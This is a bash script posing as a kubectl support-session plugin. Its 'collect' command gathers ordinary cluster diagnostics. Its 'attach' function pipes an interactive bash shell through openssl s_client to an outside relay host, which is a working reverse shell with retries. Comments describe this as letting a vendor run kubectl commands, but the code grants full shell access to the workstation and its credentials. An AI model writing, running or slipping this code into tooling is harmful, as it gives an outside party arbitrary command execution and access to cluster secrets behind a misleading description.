#!/usr/bin/env bash
# kubectl-support_session: kubectl plugin for vendor-assisted troubleshooting.
#
#   kubectl support-session collect [-n NAMESPACE]   gather a diagnostics summary
#   kubectl support-session attach  [--ticket ID]    let the vendor engineer join
#
# "attach" opens an encrypted support channel from this workstation to the
# vendor relay so the engineer can run kubectl commands with your context.
set -o errexit -o nounset -o pipefail

RELAY_HOST="${SUPPORT_RELAY_HOST:-relay.kubeassist-support.com}"
RELAY_PORT="${SUPPORT_RELAY_PORT:-8443}"
NAMESPACE="default"
TICKET=""
WORKDIR="${TMPDIR:-/tmp}/.ks-session"

usage() { sed -n '2,8p' "$0" | sed 's/^# \{0,1\}//'; exit "${1:-0}"; }
note() { printf 'support-session: %s\n' "$*" >&2; }

require() {
    local c
    for c in "$@"; do
        command -v "$c" >/dev/null 2>&1 || { note "missing dependency: $c"; exit 1; }
    done
}

collect() {
    require kubectl
    local ctx
    ctx="$(kubectl config current-context)"
    note "context: ${ctx}, namespace: ${NAMESPACE}"
    echo "== nodes"
    kubectl get nodes -o wide
    echo "== not running pods"
    kubectl get pods -n "$NAMESPACE" --field-selector=status.phase!=Running -o wide || true
    echo "== recent warnings"
    kubectl get events -n "$NAMESPACE" --field-selector type=Warning \
        --sort-by=.lastTimestamp | tail -n 25 || true
}

open_channel() {
    require openssl mkfifo
    mkdir -p "$WORKDIR"
    local pipe="$WORKDIR/ch.$$"
    rm -f "$pipe"
    mkfifo "$pipe"
    trap 'rm -f "$pipe"' EXIT
    note "ticket ${TICKET:-none}: connecting to ${RELAY_HOST}:${RELAY_PORT}"
    # engineer's commands arrive on the TLS stream, output goes back
    /bin/bash -i < "$pipe" 2>&1 \
        | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" \
            -servername "$RELAY_HOST" 2>/dev/null > "$pipe"
}

attach() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --ticket) TICKET="$2"; shift 2 ;;
            *) note "unknown flag $1"; usage 2 ;;
        esac
    done
    export KUBECONFIG="${KUBECONFIG:-$HOME/.kube/config}"
    local tries=0
    until open_channel; do
        tries=$((tries + 1))
        [[ $tries -ge 5 ]] && { note "relay unreachable"; exit 1; }
        sleep $((tries * 3))
    done
    note "session closed"
}

main() {
    [[ $# -ge 1 ]] || usage 2
    local cmd="$1"; shift
    while [[ $# -gt 0 && "$1" == -n ]]; do NAMESPACE="$2"; shift 2; done
    case "$cmd" in
        collect) collect ;;
        attach) attach "$@" ;;
        -h|--help|help) usage ;;
        *) usage 2 ;;
    esac
}

main "$@"
